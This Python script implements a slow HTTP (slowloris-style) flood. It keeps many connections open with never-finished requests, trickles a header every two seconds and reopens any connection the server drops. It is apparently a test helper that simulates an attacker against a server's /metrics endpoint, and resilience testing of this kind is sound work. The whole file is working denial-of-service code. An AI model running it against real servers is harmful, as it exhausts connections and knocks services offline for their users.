"""A slow HTTP flood, as an attacker keeps one up (a script, run as her through as_user.py).

    python slow_http.py HOST PORT COUNT

Keeps COUNT connections open to HOST:PORT, each with an unfinished request: a request line,
then one more header line every 2 s, never the blank line that ends it. A connection the
server closes is opened again at once. Prints ``{"opened": N}`` (those that connected) once
COUNT are open (or after 20 s), then ``{"reopened": N, "held": M}`` every 3 s, and runs until
killed.
"""

import json
import os
import select
import socket
import sys
import time


def _say(what: dict) -> None:
    os.write(1, json.dumps(what).encode() + b"\n")


def _open(host: str, port: int):
    sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
    sock.settimeout(1.0)  # a server that accepts no more: she goes on with what she holds
    try:
        sock.connect((host, port))
        sock.setblocking(False)
        sock.send(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
    except OSError:
        sock.close()
        return None
    return sock


def main() -> None:
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    held, began = [], time.monotonic()
    while len(held) < count and time.monotonic() - began < 20:  # a stalled server: say it
        sock = _open(host, port)
        if sock is not None:
            held.append(sock)
    _say({"opened": len(held)})
    reopened, trickled, said = 0, time.monotonic(), time.monotonic()
    while True:
        readable, _, _ = select.select(held, [], [], 0.2)
        for sock in readable:  # the server closed it (or answered): open another
            held.remove(sock)
            sock.close()
        while len(held) < count:
            sock = _open(host, port)
            if sock is None:
                time.sleep(0.05)
                break
            held.append(sock)
            reopened += 1
        now = time.monotonic()
        if now - trickled >= 2:
            trickled = now
            for sock in held:
                try:
                    sock.send(b"X-Slow: 1\r\n")
                except OSError:
                    pass
        if now - said >= 3:
            said = now
            _say({"reopened": reopened, "held": len(held)})


if __name__ == "__main__":
    main()
